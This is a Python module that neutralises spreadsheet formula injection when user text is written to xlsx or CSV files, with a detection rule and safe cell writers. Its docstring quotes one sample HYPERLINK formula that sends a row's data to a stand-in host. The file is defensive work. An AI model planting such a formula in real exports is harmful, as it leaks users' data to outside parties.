"""Writing cells that a spreadsheet never runs: the one rule against formula injection.

A value a user typed (an address, a name, a reason) can reach a workbook that someone else
opens: the registrar's export, the annotated import, the audit CSV. Text such as
`=HYPERLINK("http://x/leak?"&I2,"点击")` would then be a live formula that sends the row
away, and `+ - @` or a leading tab/CR are read as formulas too when a CSV is opened or a
cell re-edited. Every writer in the product goes through this module
(`tests/test_spreadsheet_writers.py` checks that none writes cells another way):

- `formula_like`: the rule. Text whose first character is `= + - @` or a control
  character, except a plain number ("-12.5") or a lone sign ("-"), which no spreadsheet
  runs.
- xlsx (openpyxl): text is always stored as a string cell (`data_type` "s", never "f" or
  "e"), with `quotePrefix` set when it is formula-like so Excel keeps it text even when the
  cell is edited; it reads back unchanged. Numbers, dates and None pass through as they are.
  Control characters that XML cannot hold become U+FFFD instead of failing the whole file.
- CSV: a formula-like cell gets a leading apostrophe (there is no cell type in CSV).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, Cell

if TYPE_CHECKING:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_LEADS = frozenset("=+-@")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
_ERROR_CODES = frozenset(ERROR_CODES)


def formula_like(text: str) -> bool:
    """True when a spreadsheet could take `text` for a formula (or a DDE command)."""
    if not text:
        return False
    lead = text[0]
    if lead < " " or lead == "\x7f":
        return True
    if lead not in FORMULA_LEADS:
        return False
    return len(text) > 1 and _PLAIN_NUMBER.fullmatch(text) is None


def text_clean(text: str) -> str:
    """`text` with the control characters XML cannot hold replaced by U+FFFD (tab, CR and
    LF stay)."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)


def _needs_cell(text: str) -> bool:
    """Whether plain text passed to `append` would not come back as that same string."""
    clean = text_clean(text)
    return clean != text or formula_like(clean) or clean in _ERROR_CODES


def cell_text_safe(cell: Cell, value: object) -> Cell:
    """Put `value` into an openpyxl cell; text stays text. Returns the cell."""
    if not isinstance(value, str):
        cell.value = value  # type: ignore[assignment]
        return cell
    text = text_clean(value)
    cell.value = text
    # openpyxl turns "=…" into a formula and "#N/A" into an error value; neither is wanted.
    cell.data_type = "s"
    if formula_like(text):
        cell.quotePrefix = True
    return cell


def cell_put(ws: Worksheet, row: int, column: int, value: object) -> Cell:
    """`ws.cell(row, column, value)` for a normal (not write-only) worksheet."""
    return cell_text_safe(ws.cell(row=row, column=column), value)  # type: ignore[arg-type]


def write_only_cell(ws: WriteOnlyWorksheet, value: object) -> Cell:
    """A cell for a write-only worksheet's `append`, to be styled by the caller."""
    return cell_text_safe(WriteOnlyCell(ws), value)


def row_safe(ws: WriteOnlyWorksheet, values: Sequence[object]) -> list[object]:
    """`values` ready for a write-only worksheet's `append`: risky text becomes a text
    cell, everything else (None, numbers, plain text, cells already made) passes as is."""
    out = list(values)
    for i, value in enumerate(out):
        # Inline fast path: a streamed export's values are nearly all plain printable text.
        if (
            type(value) is str
            and (not value.isprintable() or value[:1] in FORMULA_LEADS or value in _ERROR_CODES)
            and _needs_cell(value)
        ):
            out[i] = write_only_cell(ws, value)
    return out


def csv_cell(value: object) -> str:
    """A CSV cell that a spreadsheet never runs as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if formula_like(text) else text


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """Rows as CSV text, every cell through `csv_cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return out.getvalue()
